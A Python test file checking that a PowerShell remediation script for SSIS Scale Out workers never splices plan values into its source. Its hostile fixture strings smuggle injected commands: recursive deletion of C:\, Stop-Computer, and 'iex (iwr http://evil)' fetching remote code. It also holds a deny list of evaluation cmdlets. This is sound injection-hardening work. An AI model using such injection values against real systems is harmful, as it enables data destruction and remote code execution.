"""actions.ps1: valid PowerShell, one handler per action, and no plan value ever spliced into its source.

The injection test runs the real executor with a hostile plan (thumbprints, host names, accounts, paths
full of quotes, ``$()``, backticks and ``;``) and with a benign one, through the real WinRM client class
with only the channel recorded: the command line and the script part of stdin must be byte-identical
for every request of both runs, and the hostile values must arrive intact inside the JSON request.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

from scaleguard.apply.journal import Journal
from scaleguard.apply.runner import Executor
from scaleguard.apply.transport import AgentClient, actions_script
from scaleguard.collectors.agent import PAYLOAD_SEPARATOR, bootstrap_command, split_payload
from scaleguard.remediators.model import ACTION_NAMES, Plan, Step, Unit
from scaleguard.remoting.channel import CommandResult
from tests.powershell_grammar import grammar_problems

HOSTILE_HOST = "m1\"; Remove-Item -Recurse C:\\ ; $(Stop-Computer) `whoami` '"
HOSTILE_ACCOUNT = "CONTOSO\\svc'; iex (iwr http://evil) #"
HOSTILE_THUMB = "AB' + $(Invoke-Expression 'calc') + 'CD"
HOSTILE_PATH = "C:\\Program Files\\$(calc)\\Binn\\WorkerSettings.config"



def test_actions_script_parses_without_errors() -> None:
    assert grammar_problems(actions_script()) == []
    assert grammar_problems("function X {\n if ($a) { 'x'\n"), "the grammar check must be able to fail"


def test_actions_script_is_ascii_and_never_evaluates_strings() -> None:
    script = actions_script()
    script.encode("ascii")
    code = [line for line in script.splitlines() if not line.lstrip().startswith("#")]
    lowered = "\n".join(code).lower()
    for forbidden in (
        "invoke-expression",
        "iex ",
        "[scriptblock]::create",
        "add-type",
        "-encodedcommand",
        "start-process",
        "invoke-command",
        "new-pssession",
    ):
        assert forbidden not in lowered, forbidden


def test_every_action_has_a_handler_in_the_script() -> None:
    cases = set(re.findall(r"^\s+'([a-z_]+)' \{ \$result = Invoke-", actions_script(), flags=re.M))
    assert cases == set(ACTION_NAMES) | {"read_file", "lease_acquire", "lease_renew", "lease_release", "lease_break"}


def test_the_script_validates_what_it_passes_to_programs() -> None:
    script = actions_script()
    # every value reaching netsh, certutil or a certificate subject went through a strict pattern first
    for pattern in (
        "$IpPortPattern",
        "$AppIdPattern",
        "$ThumbprintPattern",
        "$HostNamePattern",
        "$ServicePattern",
        "$BackupNamePattern",
        "$AccountPattern",
        "$SchannelNamePattern",
    ):
        assert script.count(pattern) >= 2, pattern  # defined and used


class RecordingChannel:
    """Stands in for HostChannel: records what would go over WinRM and answers like the agent."""

    def __init__(self) -> None:
        self.deadline = 0.0
        self.sent: list[tuple[str, bytes]] = []

    def run(self, command: str, stdin: bytes, *, idempotent: bool = True) -> CommandResult:
        assert idempotent is False  # fix actions are never re-run behind the operator's back
        self.sent.append((command, stdin))
        _script, request = split_payload(stdin)
        answers: dict[str, dict[str, Any]] = {
            "read_file": {
                "content_b64": "PFc+PE1hc3RlckVuZHBvaW50PmE8L01hc3RlckVuZHBvaW50PjwvVz4=",
                "sha256": "0" * 64,
            },
            "create_certificate": {"thumbprint": "C" * 40, "der_b64": "AAAA"},
        }
        def answer(op: str) -> dict[str, Any]:
            return {**answers.get(op, {}), "changed": True}

        if request["op"] == "batch":
            results = [{"ok": True, "result": answer(a["op"])} for a in request["actions"]]
            return CommandResult(json.dumps({"results": results}).encode(), b"", 0)
        return CommandResult(json.dumps(answer(request["op"])).encode(), b"", 0)


class RecordingTransport:
    def __init__(self) -> None:
        self.channel = RecordingChannel()

    def client(self, cluster: str, node: str) -> AgentClient:
        return AgentClient(self.channel, timeout_s=30, name=node)  # type: ignore[arg-type]

    def close(self) -> None:
        pass


def the_plan(host: str, account: str, thumb: str, path: str) -> Plan:
    steps = [
        Step(
            id="s001",
            unit="u01",
            cluster="C",
            node="W1",
            action="create_certificate",
            params={
                "store": "My",
                "common_names": [host],
                "san_dns": [host],
                "san_ip": [],
                "key_bits": 2048,
                "hash": "sha256",
                "valid_days": 730,
                "friendly_name": "SSIS Scale Out Worker",
            },
            command="-",
        ),
        Step(
            id="s002",
            unit="u01",
            cluster="C",
            node="W1",
            action="grant_key_read",
            params={"store": "My", "thumbprint": thumb, "account": account},
            command="-",
        ),
        Step(
            id="s003",
            unit="u01",
            cluster="C",
            node="W1",
            action="set_binding",
            params={"ip_port": f"{host}:8391", "cert_hash": thumb, "cert_store": "Root", "app_id": host},
            command="-",
        ),
        Step(
            id="s004",
            unit="u01",
            cluster="C",
            node="W1",
            action="write_config",
            params={
                "path": path,
                "role": "worker",
                "setting": "MasterEndpoint",
                "value": f"https://{host}:8391",
            },
            command="-",
        ),
        Step(
            id="s005",
            unit="u01",
            cluster="C",
            node="W1",
            action="restart_service",
            params={"name": account},
            command="-",
        ),
        Step(
            id="s006",
            unit="u01",
            cluster="C",
            node="W1",
            action="set_schannel_value",
            params={"name": host, "value": 2},
            command="-",
        ),
    ]
    unit = Unit(id="u01", remediation="manual", cluster="C", target="W1", summary="-", steps=[s.id for s in steps])
    from datetime import UTC, datetime

    return Plan(generated_at=datetime.now(UTC), units=[unit], steps=steps)


def run_plan(the_plan: Plan, journal: Path) -> list[tuple[str, bytes]]:
    transport = RecordingTransport()
    with Journal(journal) as j:
        report = Executor(the_plan, transport, j).run()
    assert report.status == "done"
    return transport.channel.sent


def test_no_step_value_is_ever_spliced_into_powershell(tmp_path: Path) -> None:
    hostile = run_plan(the_plan(HOSTILE_HOST, HOSTILE_ACCOUNT, HOSTILE_THUMB, HOSTILE_PATH), tmp_path / "h.sqlite")
    benign = run_plan(
        the_plan(
            "master01.contoso.test",
            "NT Service\\SSISScaleOutWorker150",
            "A" * 40,
            "C:\\Program Files\\Microsoft SQL Server\\150\\DTS\\Binn\\WorkerSettings.config",
        ),
        tmp_path / "b.sqlite",
    )
    # two rounds: the steps up to the config write with the file read riding along, then the rest
    assert len(hostile) == len(benign) == 2
    script_bytes = actions_script().encode("ascii")
    for (h_command, h_stdin), (b_command, b_stdin) in zip(hostile, benign, strict=True):
        assert h_command == b_command == bootstrap_command()  # the command line never carries data
        h_script, _, h_request = h_stdin.partition(PAYLOAD_SEPARATOR)
        b_script, _, b_request = b_stdin.partition(PAYLOAD_SEPARATOR)
        assert h_script == b_script == script_bytes  # the same program for every request
        assert h_request != b_request
    rounds = [split_payload(stdin)[1] for _, stdin in hostile]
    assert [r["op"] for r in rounds] == ["batch", "batch"]
    requests = [action for r in rounds for action in r["actions"]]
    assert [r["op"] for r in requests] == [
        "create_certificate", "grant_key_read", "set_binding", "read_file", "write_config", "restart_service",
        "set_schannel_value",
    ]
    assert requests[0]["common_names"] == [HOSTILE_HOST]
    assert requests[1] == {
        "op": "grant_key_read",
        "store": "My",
        "thumbprint": HOSTILE_THUMB,
        "account": HOSTILE_ACCOUNT,
    }
    assert requests[2]["ip_port"] == f"{HOSTILE_HOST}:8391" and requests[2]["app_id"] == HOSTILE_HOST
    assert requests[3] == {"op": "read_file", "path": HOSTILE_PATH}
    assert requests[4]["value"] == f"https://{HOSTILE_HOST}:8391" and requests[4]["path"] == HOSTILE_PATH
    assert requests[5] == {"op": "restart_service", "name": HOSTILE_ACCOUNT}
    assert requests[6] == {"op": "set_schannel_value", "name": HOSTILE_HOST, "value": 2}
    for _, stdin in hostile:
        stdin.decode("ascii")  # non-ASCII is JSON-escaped: no code page can turn data into something else
